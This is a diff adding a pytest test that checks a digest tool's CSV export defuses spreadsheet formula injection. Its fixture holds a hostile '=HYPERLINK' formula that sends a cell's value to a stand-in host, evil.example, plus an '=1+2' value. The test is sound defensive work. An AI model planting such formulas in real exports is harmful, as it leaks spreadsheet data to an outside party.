@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import re
@@ -12,7 +14,7 @@ from pathlib import Path
 import pytest
 from pydantic import TypeAdapter
 
-from conftest import SEED_ENTRIES, read_seed
+from conftest import SEED_ENTRIES, parse_snippet, read_seed
 from conftest import run_digest as run
 from digest_archive.model import Digest, Entry
 
@@ -284,6 +286,43 @@ def test_export_of_an_unreadable_file_exits_1(capsys, tmp_path):
     assert status == 1
     assert json.loads(out) == []
     assert "DA001" in err
+
+
+# A digest as a stranger's pull request could write it: fields that spreadsheets run as formulas.
+HOSTILE_DIGEST = """LG - 机器学习 (*表示值得重点关注)
+
+    1、[LG] =HYPERLINK("https://evil.example/?"&A1,"click")
+    D Kunin, S Ganguli
+    [=1+2 & -Evil University]
+    @恶意摘要。 Abstract text. https://weibo.com/1402400261/JyFsjATR5
+    f01.png.jpg
+"""
+
+
+def test_export_csv_of_a_hostile_digest_starts_no_formula(capsys, tmp_path):
+    path = tmp_path / "raw" / "2020" / "2020-12-16.txt"
+    path.parent.mkdir(parents=True)
+    path.write_text(HOSTILE_DIGEST, encoding="utf-8")
+    (entry,) = parse_snippet(HOSTILE_DIGEST).entries
+    assert entry.title.startswith("=")
+    assert entry.affiliations == ["=1+2", "-Evil University"]
+    assert entry.summary_zh == "@恶意摘要。"
+
+    status, out, err = run(capsys, "export", "--format", "csv", str(path))
+    assert (status, err) == (0, "")
+    (row,) = csv.DictReader(io.StringIO(out, newline=""))
+    assert row["title"] == "'" + entry.title
+    assert row["affiliations"] == "'=1+2; -Evil University"
+    assert row["summary_zh"] == "'@恶意摘要。"
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")) for cell in row.values())
+
+    # The JSON export is the exact data.
+    status, out, _ = run(capsys, "export", str(path))
+    assert status == 0
+    (exported,) = json.loads(out)[0]["entries"]
+    assert exported["title"] == entry.title
+    assert exported["affiliations"] == entry.affiliations
+    assert exported["summary_zh"] == entry.summary_zh
 
 
 @pytest.fixture
